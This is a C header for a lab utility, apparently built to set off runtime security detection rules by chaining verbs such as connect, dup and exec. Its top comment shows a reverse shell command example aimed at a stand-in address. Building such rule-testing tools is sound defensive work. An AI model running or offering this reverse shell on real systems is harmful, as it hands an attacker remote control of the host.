/* SPDX-License-Identifier: Apache-2.0 */
/*
 * act: does, one at a time, the things that busybox cannot and that a rule wants to see.
 *
 * A command line is a chain of verbs, run from left to right. They share one descriptor: `connect`
 * makes it, `dup 0` uses it. So a reverse shell reads as what it is:
 *
 *     act connect 192.0.2.1 4444 dup 0 dup 1 dup 2 exec /bin/sh
 *
 * The lab copies the program under other names (nginx, ssh, debugfs) where a rule asks for a name.
 * A verb that fails ends the program with code 1 and says why on stderr.
 */
#ifndef ACT_H
#define ACT_H

/* What is left of the command line, and the descriptor that the verbs share (-1: none yet). */
struct chain {
	char **words;
	int fd;
};

/* One verb. It takes its own words from the chain; it does not return on failure. */
typedef void (*verb_fn)(struct chain *chain);

struct verb {
	const char *name;
	const char *operands;
	verb_fn run;
};

/* Each file of verbs ends its table with an empty entry. */
extern const struct verb file_verbs[];
extern const struct verb network_verbs[];
extern const struct verb process_verbs[];
extern const struct verb kernel_verbs[];
extern const struct verb gate_verbs[];

/* The next word of the chain; ends the program with a message when there is none. */
char *next_word(struct chain *chain);
/* The next word as a number from 0 to max. */
long next_number(struct chain *chain, long max);
/* The shared descriptor; ends the program when no verb has made one. */
int shared_fd(const struct chain *chain);
/* Ends the program with code 1 and the reason in errno. */
_Noreturn void fail(const char *what);
/* Runs the rest of the chain, then ends the program with code 0. */
_Noreturn void run_rest(struct chain *chain);

#endif
